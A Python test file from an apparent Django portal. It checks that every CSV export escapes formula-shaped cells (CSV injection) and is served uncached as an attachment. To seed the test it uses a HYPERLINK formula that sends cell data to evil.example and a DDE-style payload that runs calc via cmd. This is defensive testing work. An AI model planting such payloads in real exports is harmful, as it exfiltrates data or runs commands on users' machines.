"""Every CSV the portal sends neutralises cells a spreadsheet would run as a formula (OWASP CSV
injection), and is an attachment no cache keeps (portal/exports.py).

People and employers with formula-shaped names are seeded where every export reads them; each
export is downloaded as its user would and every cell is checked. A new CSV route fails the sweep
until it is added here.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from portal.exports import FORMULA_STARTS, safe_cell
from tests.compliance.builders import revoke
from tests.conftest import Cast
from tests.factories import ProviderFactory, RecruitFactory
from tests.pastoral.builders import red_check_in
from tests.security.urls import all_routes

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PLUS = "+44 7700 900123"  # a phone number a spreadsheet would also try to compute
PASTORAL_TABLES = ("due", "overdue", "red", "concerns", "by_provider", "by_month")


def _certified_cohort(cast: Cast):
    """A completed cohort of a programme with an awarding body, whose certificate holder is recruit_a."""
    from tests.training.builders import cohort, move_to_past, programme
    from training import services
    from training.certificates import attendance_record

    made = cohort(
        programme(
            cast.region_a,
            english=False,
            awarding_body="Highfield",
            qualification_title="Level 1 Award",
            qualification_level="1",
        )
    )
    enrolment = services.enrolment_book(actor=cast.staff_a, cohort=made, recruit=cast.recruit_a)
    move_to_past(made)
    for day in made.days.order_by("date"):
        attendance_record(actor=cast.staff_a, day=day, present={enrolment.pk})
    return made


def _exports(cast: Cast) -> list[tuple[str, str]]:
    """(user, url) of every CSV export, after seeding formula-shaped names where each one reads them."""
    cast.recruit_a.family_name = FORMULA
    cast.recruit_a.save()
    cast.provider_a.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    cast.provider_a.save()
    red_check_in(cast)
    gamma = ProviderFactory(region=cast.region_a, local_authority=cast.council_a, name="-2+3 Care Ltd")
    RecruitFactory(provider=gamma, given_names=PLUS, family_name=FORMULA, status="employed")
    case = revoke(cast, gamma)
    exports = [
        ("lead_a", reverse("cohort_registration_csv", args=[_certified_cohort(cast).public_id])),
        ("lead_a", reverse("case_workers_csv", args=[case.public_id])),
        ("lead_a", reverse("training_cohorts_csv")),
        ("lead_a", reverse("training_completions_csv")),
        ("lead_a", reverse("rematch_report_csv")),
        ("lead_a", reverse("monitoring_return_csv")),
        ("national", reverse("monitoring_return_csv")),
        ("provider_admin_a", reverse("recruit_import_template")),
        ("lead_a", reverse("access_review_export")),  # the provider's name, as what a role is held on
        # The national team's suppressed tables: region names and counts only.
        ("national", reverse("national_regions_csv")),
        ("national", reverse("national_trends_csv")),
        ("national", reverse("training_regions_csv")),
        ("national", reverse("rematch_report_csv")),
    ]
    exports += [("staff_a", reverse("pastoral_export", args=[table])) for table in PASTORAL_TABLES]
    return exports


def test_every_csv_route_is_in_the_sweep() -> None:
    swept = {"case_workers_csv", "cohort_registration_csv", "training_cohorts_csv", "training_completions_csv",
             "rematch_report_csv",
             "recruit_import_template", "pastoral_export", "access_review_export", "national_regions_csv",
             "national_trends_csv", "training_regions_csv", "monitoring_return_csv"}  # fmt: skip
    csv_routes = {
        route.name for route in all_routes() if route.name and (route.route.endswith(".csv") or "export" in route.route)
    }
    # Exports that hold no spreadsheet, each with where its no-store is checked instead.
    not_csv = {
        "rights_recruit_export": "a ZIP of JSON, a PDF and stored documents: tests/accesslog/test_data_rights.py",
        "rights_learner_export": "a ZIP of JSON about a learner: tests/training/test_learner_rights.py",
        "rights_candidate_export": "a ZIP of JSON, a PDF and stored documents: tests/campaigns/test_personal_data.py",
    }
    assert csv_routes - set(not_csv) <= swept, f"CSV routes not swept here: {sorted(csv_routes - set(not_csv) - swept)}"


def test_no_export_carries_a_formula_and_none_is_cached(cast: Cast, client) -> None:
    seen_escaped = 0
    for user, url in _exports(cast):
        client.force_login(getattr(cast, user))
        response = client.get(url)
        assert response.status_code == 200, url
        assert response["Content-Type"].startswith("text/csv"), url
        assert response["Cache-Control"] == "no-store" and response["Content-Disposition"].startswith("attachment;")
        for row in csv.reader(io.StringIO(response.content.decode())):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), f"{url}: {cell!r} would run as a formula"
                seen_escaped += cell.startswith(("'=", "'+", "'-", "'@"))
    assert seen_escaped >= 4, "the seeded names did not reach the exports: the sweep would prove nothing"


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+44", "'+44"), ("-3", "'-3"), ("@A1", "'@A1"), ("\tX", "'\tX"), ("\rX", "'\rX"),
     ("Ada", "Ada"), (-3, -3), (4.5, 4.5), ("", "")],
)  # fmt: skip
def test_a_cell_is_neutralised_only_when_it_would_run(value: object, written: object) -> None:
    assert safe_cell(value) == written
